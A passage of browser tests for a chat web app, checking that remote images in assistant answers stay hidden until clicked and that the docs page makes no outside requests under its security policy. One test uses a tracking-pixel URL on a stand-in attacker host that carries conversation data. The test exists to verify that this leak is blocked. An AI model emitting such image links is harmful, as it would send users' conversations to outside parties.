    assert.equal(await answer.locator('.text button.remote-image').textContent(), 'Show image: tracker (evil.example)')
    assert.equal(await answer.locator('.text span.remote-image').textContent(), '[image: plain]') // http: is never shown
    assert.deepEqual(foreign, [])
    await answer.locator('.text button.remote-image').click()
    await answer.locator('.text img[alt="tracker"]').waitFor()
    assert.equal(await answer.locator('.text img').getAttribute('src'), 'https://evil.example/pixel.png?conversation=secret')
    await page.waitForFunction(() => document.querySelector('.message.assistant:last-child img')?.complete)
    assert.deepEqual(foreign, ['https://evil.example/pixel.png?conversation=secret'])
    assert.deepEqual(await page.evaluate(() => window.__csp), [])
    assert.deepEqual(problems, [])
    assert.deepEqual(failed, [])
  } finally {
    await page.unrouteAll({ behavior: 'ignoreErrors' })
    await imaged.stop()
  }
})

test('/docs shows the OpenAPI document through the vendored swagger-ui, with no request off the server', async () => {
  await newPage()
  problems.length = 0
  failed.length = 0
  const foreign = []
  page.on('request', (request) => {
    if (!request.url().startsWith(server.baseUrl) && !request.url().startsWith('data:')) foreign.push(request.url())
  })
  await recordViolations()
  const response = await page.goto(`${server.baseUrl}/docs`)
  assert.match(response.headers()['content-security-policy'], /script-src 'self';.*frame-ancestors 'none'/)
  assert.equal(response.headers()['x-frame-options'], 'DENY')
  await page.waitForSelector('body[data-ready="true"]')
  await page.waitForSelector('.opblock-summary-path')
  const paths = await page.$$eval('.opblock-summary-path', (nodes) => nodes.map((n) => n.textContent.trim()))
  assert.ok(paths.some((p) => p.startsWith('/conversations/{conversation_id}')), String(paths))
  assert.ok(paths.includes('/agents'), String(paths))
  assert.deepEqual(foreign, [])
  assert.deepEqual(await page.evaluate(() => window.__csp), []) // swagger-ui works under its policy
  assert.deepEqual(problems, [])
  assert.deepEqual(failed, [])
})
